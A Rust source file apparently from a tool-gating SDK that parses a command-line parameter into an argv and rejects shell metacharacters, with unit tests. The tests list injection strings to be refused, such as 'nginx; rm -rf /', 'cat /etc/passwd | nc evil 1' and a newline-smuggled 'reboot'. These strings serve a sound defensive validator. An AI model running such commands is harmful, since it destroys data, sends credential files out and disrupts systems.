//! A command line split into an argv with shell-like quoting (shlex), without ever meaning
//! anything a shell would do with it: no chaining, substitution, redirection or variables.

use toolgate_sdk::Error;

/// Longest command line accepted.
pub const MAX_LEN: usize = 4096;

/// Characters that only mean something to a shell. Without a shell they would be literal, but a
/// caller writing them expects a shell: refuse rather than run something else than meant. The
/// host refuses them too; refusing here names the parameter and keeps the sandbox untouched.
const SHELL_CHARS: &[char] = &[';', '&', '|', '$', '`', '<', '>', '(', ')'];

/// Split `line` (the value of parameter `field`) into an argv.
pub fn split(field: &str, line: &str) -> Result<Vec<String>, Error> {
    let bad = |why: String| {
        let shown: String = line.chars().take(120).flat_map(char::escape_default).collect();
        Err(Error::invalid_params(format!("`{field}`: `{shown}` {why}")))
    };
    if line.len() > MAX_LEN {
        return bad("is longer than 4096 bytes".into());
    }
    if line.chars().any(char::is_control) {
        return bad("contains a control character (newline, NUL, ...): one command only".into());
    }
    if let Some(c) = line.chars().find(|c| SHELL_CHARS.contains(c)) {
        return bad(format!(
            "contains `{c}`: commands run without a shell, so pipes, `;`, `&&`, `$(...)` and redirections are refused"
        ));
    }
    let Some(argv) = shlex::split(line) else { return bad("has an unterminated quote or a trailing `\\`".into()) };
    match argv.first() {
        None => bad("is empty".into()),
        Some(program) if program.is_empty() => bad("has an empty program name".into()),
        Some(_) => Ok(argv),
    }
}

#[cfg(test)]
#[allow(clippy::expect_used)] // a test that panics is a failing test
mod tests {
    use super::*;

    #[test]
    fn quoting_is_honoured() {
        assert_eq!(split("command", "uptime").expect("ok"), ["uptime"]);
        assert_eq!(split("command", "ls -la /var/log").expect("ok"), ["ls", "-la", "/var/log"]);
        assert_eq!(
            split("command", r#"grep -c "connection reset" /var/log/app.log"#).expect("ok"),
            ["grep", "-c", "connection reset", "/var/log/app.log"]
        );
        assert_eq!(split("command", "echo 'a  b' c\\ d").expect("ok"), ["echo", "a  b", "c d"]);
    }

    #[test]
    fn shell_constructs_and_injection_attempts_are_refused_naming_the_field() {
        for line in [
            "nginx; rm -rf /",
            "echo $(id)",
            "echo `id`",
            "cat /etc/passwd | nc evil 1",
            "true && reboot",
            "ls > /tmp/x",
            "echo $HOME",
            "uptime\nreboot",
            "uptime\r",
            "a\0b",
            "echo 'unterminated",
            "echo trailing\\",
            "",
            "   ",
            "'' -x",
        ] {
            let err = split("command", line).expect_err(line);
            assert!(matches!(&err, Error::InvalidParams(m) if m.starts_with("`command`:")), "{line:?}: {err}");
        }
    }

    #[test]
    fn a_quoted_metacharacter_is_refused_too() {
        // Harmless without a shell, but the host refuses it anyway: say so before a sandbox starts.
        assert!(split("command", "grep 'a|b' file").is_err());
    }
}
